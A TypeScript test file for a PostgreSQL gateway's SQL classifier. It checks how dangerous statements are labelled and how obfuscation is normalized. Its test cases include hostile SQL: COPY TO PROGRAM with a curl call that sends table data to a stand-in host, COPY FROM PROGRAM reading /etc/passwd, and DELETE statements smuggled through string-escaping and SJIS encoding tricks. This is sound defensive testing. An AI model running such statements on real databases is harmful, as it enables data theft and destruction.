// Classification comes from the real PostgreSQL parser. One case per line: statement, classes.
import { test, before } from 'node:test';
import assert from 'node:assert/strict';
import { classify } from '../../gateway/postgres/sql-classifier.ts';
import { loadSqlParser } from '../../gateway/postgres/pg-parser.ts';
import { normalizeSql } from '../../gateway/postgres/sql-normalize.ts';
import { SQL_CLASSES } from '../../gateway/postgres/sql-classes.ts';

before(() => loadSqlParser());

const CASES: [string, string[][]][] = [
  ['SELECT 1', [['select']]],
  ['sElEcT * FrOm users', [['select']]],
  ['DeLeTe/* hidden */FROM   users', [['delete', 'delete-without-where']]],
  ['delete from users where id = 1', [['delete']]],
  ['UPDATE "Users" SET a = 1', [['update', 'update-without-where']]],
  ['update users set a = 1 where id = 2', [['update']]],
  ['insert into t values (1)', [['insert']]],
  ['insert into t select * from u', [['insert', 'select']]],
  ['SELECT 1; DELETE FROM users', [['select'], ['delete', 'delete-without-where']]],
  ['WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d', [['delete', 'delete-without-where', 'select']]],
  ['EXPLAIN ANALYZE DELETE FROM users', [['delete', 'delete-without-where', 'explain']]],
  ['EXPLAIN DELETE FROM users', [['explain']]],
  ['EXPLAIN (ANALYZE false) DELETE FROM users', [['explain']]],
  ['PREPARE p AS DELETE FROM users; EXECUTE p', [['delete', 'delete-without-where', 'prepare'], ['delete', 'delete-without-where', 'execute']]],
  ["DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$", [['do-block']]],
  ['CALL cleanup()', [['do-block']]],
  ["COPY users TO PROGRAM 'curl -d @- http://x'", [['copy', 'copy-to-program', 'select']]],
  ["COPY users FROM PROGRAM 'cat /etc/passwd'", [['copy', 'copy-from-program', 'insert']]],
  ['COPY users FROM STDIN', [['copy', 'insert']]],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM users RETURNING 1'", [['create', 'ddl', 'function-definition']]],
  ['CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM users', [['create', 'ddl', 'delete', 'delete-without-where', 'function-definition']]],
  ['CREATE TRIGGER trg AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()', [['create', 'ddl', 'function-definition']]],
  ['DROP TABLE users', [['ddl', 'drop']]],
  ['TRUNCATE users', [['truncate']]],
  ['ALTER TABLE users ADD COLUMN x int', [['alter', 'ddl']]],
  ['CREATE TABLE t2 AS SELECT * FROM users', [['create', 'ddl', 'select']]],
  ['SELECT * INTO t3 FROM users', [['create', 'ddl', 'select']]],
  ['GRANT SELECT ON users TO bob', [['grant']]],
  ['REVOKE SELECT ON users FROM bob', [['revoke']]],
  ['GRANT admin TO bob', [['grant', 'role']]],
  ['CREATE ROLE bob', [['role']]],
  ['ALTER ROLE bob SUPERUSER', [['role']]],
  ['BEGIN; SET search_path = x; COMMIT', [['transaction'], ['set'], ['transaction']]],
  ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', [['delete', 'insert', 'merge', 'update']]],
  ['DECLARE c CURSOR FOR SELECT * FROM users', [['cursor', 'select']]],
  ['VACUUM users', [['maintenance', 'vacuum']]],
  ['LISTEN ch', [['listen']]],
  ['SHOW search_path', [['utility']]],
  // ON CONFLICT DO UPDATE changes existing rows.
  ['INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET v = 0', [['insert', 'update']]],
  ['INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING', [['insert']]],
  // Changing the session's role is a privilege change.
  ['SET ROLE admin', [['role', 'set']]],
  ['SET "ROLE" = admin', [['role', 'set']]],
  ['RESET ROLE', [['role', 'set']]],
  ['SET SESSION AUTHORIZATION admin', [['role', 'set']]],
  ['ALTER DATABASE app SET role = admin', [['alter', 'ddl', 'role']]],
  ['SET work_mem = 65536', [['set']]],
  ['DROP OWNED BY bob', [['ddl', 'drop', 'revoke']]],
];

test('statements are classified by the PostgreSQL parser, hidden ones included', () => {
  for (const [sql, expected] of CASES) {
    const c = classify(sql);
    assert.ok(c.ok, `${sql}: ${c.ok ? '' : c.error}`);
    assert.deepEqual(c.statements.map((s) => s.classes), expected, sql);
    for (const s of c.statements) for (const cls of s.classes) assert.ok((SQL_CLASSES as readonly string[]).includes(cls), cls);
  }
});

test('relations are named with their schema, and CTE names are not relations', () => {
  const c = classify('WITH d AS (DELETE FROM audit.log RETURNING *) SELECT * FROM d JOIN public.users u ON true; DROP TABLE a, s.b');
  assert.ok(c.ok);
  assert.deepEqual(c.statements.map((s) => s.tables), [['audit.log', 'public.users'], ['a', 's.b']]);
});

test('a CTE hides relations only where it is in scope, never the target of a write', () => {
  const tables = (sql: string): string[] => {
    const c = classify(sql);
    assert.ok(c.ok, sql);
    return c.statements[0]!.tables;
  };
  assert.deepEqual(tables('WITH accounts AS (SELECT 1) DELETE FROM accounts WHERE true'), ['accounts']);
  assert.deepEqual(tables('WITH "public.accounts" AS (SELECT 1) UPDATE public.accounts SET v = 1 WHERE true'), ['public.accounts']);
  assert.deepEqual(tables('WITH accounts AS (SELECT 1) INSERT INTO accounts SELECT * FROM accounts'), ['accounts']);
  assert.deepEqual(tables('WITH t AS (SELECT 1) MERGE INTO t USING t s ON true WHEN MATCHED THEN DELETE'), ['t']);
  // A non-recursive CTE's body sees only the CTEs before it; its own name there is a table.
  assert.deepEqual(tables('WITH a AS (SELECT * FROM a), b AS (SELECT * FROM a) SELECT * FROM b, c'), ['a', 'c']);
  assert.deepEqual(tables('WITH RECURSIVE a AS (SELECT * FROM a) SELECT * FROM a'), []);
  assert.deepEqual(tables('SELECT * FROM users, (WITH users AS (SELECT 1) SELECT * FROM users) s'), ['users']);
});

test('objects named after a relation, and whole schemas, name their relations', () => {
  const tables = (sql: string): string[][] => {
    const c = classify(sql);
    assert.ok(c.ok, sql);
    return c.statements.map((s) => s.tables);
  };
  assert.deepEqual(tables('DROP TRIGGER t ON audit.events; DROP POLICY p ON users; DROP RULE r ON s.v'), [['audit.events'], ['users'], ['s.v']]);
  assert.deepEqual(tables("COMMENT ON TABLE users IS 'x'; COMMENT ON COLUMN public.users.name IS NULL"), [['users'], ['public.users']]);
  assert.deepEqual(tables('DROP SCHEMA audit CASCADE; ALTER SCHEMA audit RENAME TO old; ALTER SCHEMA audit OWNER TO bob'), [['audit.*'], ['audit.*', 'old.*'], ['audit.*']]);
  assert.deepEqual(tables('GRANT SELECT ON ALL TABLES IN SCHEMA audit TO bob'), [['audit.*']]);
  assert.deepEqual(tables('SELECT * FROM U&"us\\0065rs"'), [['users']]);
});

test('text the server may read differently (string settings, client encodings) is not classified', () => {
  const unclassified = (sql: string, why: RegExp): void => {
    const c = classify(sql);
    assert.ok(!c.ok && why.test(c.error), `${sql}: ${JSON.stringify(c)}`);
  };
  // With standard_conforming_strings off the server runs the DELETE hidden in a "comment".
  unclassified("SELECT 'a\\' /* ', 1; DELETE FROM users --*/", /standard_conforming_strings off/);
  unclassified("SELECT 'C:\\'", /standard_conforming_strings off/);
  // In SJIS the bytes of Á (C3 81) and the backslash are two characters: the string ends early.
  unclassified("SELECT E'\u00c1\\'; DELETE FROM users; --'", /client encoding such as SJIS/);
  unclassified("SELECT E'\u00c1\\\\', 1 --'", /client encoding such as SJIS/);
  unclassified('SELECT 1 -- \ufffd', /not valid UTF-8/);
  // The same in both readings: classified.
  for (const ok of ["SELECT '\\d+' ~ 'x', E'it\\'s', 'a\\\\'", "SELECT E'Grüße\\n'", "SELECT E'中\\n', '中\\d'", "SELECT 'a'\n'b\\c'", "SELECT U&'\\0041'"]) {
    assert.ok(classify(ok).ok, ok);
  }
});

test('what cannot be classified says why', () => {
  const bad = classify('SELEC 1');
  assert.ok(!bad.ok && /syntax error at or near "SELEC"/.test(bad.error));
  const unknown = classify('EXECUTE never_prepared');
  assert.ok(!unknown.ok && /not prepared through the gateway/.test(unknown.error));
  const known = classify('EXECUTE p', new Map([['p', { classes: ['drop', 'ddl'], tables: ['t'] }]]));
  assert.ok(known.ok && known.statements[0]!.classes.includes('drop'));
  assert.deepEqual(classify('  -- nothing\n;'), { ok: true, statements: [], prepared: [] });
});

test('normalization defeats case, whitespace and comment tricks, and keeps literals', () => {
  assert.equal(normalizeSql('DeLeTe/**/FROM\n\t public.Users -- bye'), 'delete from public.users');
  assert.equal(normalizeSql('SELECT pg_terminate_backend/* x /* nested */ y */(42)'), 'select pg_terminate_backend ( 42 )');
  assert.equal(normalizeSql(`select 'DROP  TABLE', "MiXed", E'it\\'s', $t$ a  b $t$, $1`), `select 'DROP  TABLE' , "MiXed" , e'it\\'s' , $t$ a  b $t$ , $1`);
  assert.equal(normalizeSql('SELECT a::int, b->>\'x\' FROM t WHERE x<>1--c\nAND y>=2'), "select a :: int , b ->> 'x' from t where x <> 1 and y >= 2");
  // Unicode escapes in identifiers are resolved: the function is the one PostgreSQL calls.
  assert.equal(normalizeSql('SELECT U&"pg\\005fread_file"(1), u&"a!0062c" UESCAPE \'!\', U&"q""\\+000071"'), 'select "pg_read_file" ( 1 ) , "abc" , "q""q"');
  assert.equal(normalizeSql('SELECT U&"bad\\zz"'), 'select U&"bad\\zz"');
});
